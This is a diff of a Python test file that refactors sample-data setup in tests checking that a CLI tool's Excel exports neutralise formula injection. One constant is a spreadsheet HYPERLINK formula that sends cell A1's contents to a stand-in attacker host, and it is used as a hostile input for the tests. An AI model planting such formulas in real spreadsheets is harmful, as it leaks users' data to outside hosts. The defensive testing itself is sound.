@@ -25,14 +25,13 @@ import pytest
 from openpyxl import load_workbook
 from typer.testing import CliRunner
 
+from conftest import copy_sample
 from xjj_cli.cli import app
 from xjj_cli.forms import layout
 from xjj_cli.forms.write import FormBook, Office, Value, workbook_bytes
 from xjj_cli.messages.reports import REPORT_HEADINGS
 from xjj_cli.render.tabular import Table, columns
 from xjj_cli.render.workbook import tables_xlsx
-
-SAMPLE = Path(__file__).resolve().parents[1] / "data"
 
 UNIT = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
 """区住建局 (qzj), which gets a notice in 2026-10 and a responsible unit of problems."""
@@ -75,8 +74,7 @@ def _replace(path: Path, old: str, new: str) -> None:
 
 def hostile_repository(root: Path) -> Path:
     """A copy of the sample whose names and a problem start like formulas."""
-    data = root / "data"
-    shutil.copytree(SAMPLE, data)
+    data = copy_sample(root)
     quoted = UNIT.replace('"', '""')
     _replace(data / "units" / "units.csv", "qzj,区住建局,", f'qzj,"{quoted}",')
     _replace(data / "towns" / "towns.csv", "gh,古槐街道,", f"gh,{TOWN},")
@@ -208,10 +206,10 @@ def test_a_text_cell_is_never_a_formula_or_an_error(
     assert "'" + text not in found.values()
 
 
-def test_a_problem_typed_as_a_formula_comes_back_as_text_next_month(tmp_path: Path) -> None:
-    data = tmp_path / "data"
-    shutil.copytree(SAMPLE, data)
-    run(data, "forms", "--month", "2026-11", "--out", str(tmp_path / "forms"))
+def test_a_problem_typed_as_a_formula_comes_back_as_text_next_month(
+    sample_copy: Path, tmp_path: Path
+) -> None:
+    run(sample_copy, "forms", "--month", "2026-11", "--out", str(tmp_path / "forms"))
     path = tmp_path / "forms" / OFFICE_FORM
     book = load_workbook(path)
     sheet = book[layout.NEW_PROBLEMS.sheet]
@@ -222,8 +220,8 @@ def test_a_problem_typed_as_a_formula_comes_back_as_text_next_month(tmp_path: Pa
     sheet[f"D{first}"] = "区住建局"
     sheet[f"E{first}"] = dt.date(2026, 12, 20)
     book.save(path)
-    run(data, "import", str(path))
-    run(data, "forms", "--month", "2026-12", "--out", str(tmp_path / "next"))
+    run(sample_copy, "import", str(path))
+    run(sample_copy, "forms", "--month", "2026-12", "--out", str(tmp_path / "next"))
     again = tmp_path / "next" / OFFICE_FORM.replace("2026-11", "2026-12")
     assert formulas(again) == []
     opened = load_workbook(again)[layout.OPEN_PROBLEMS.sheet]
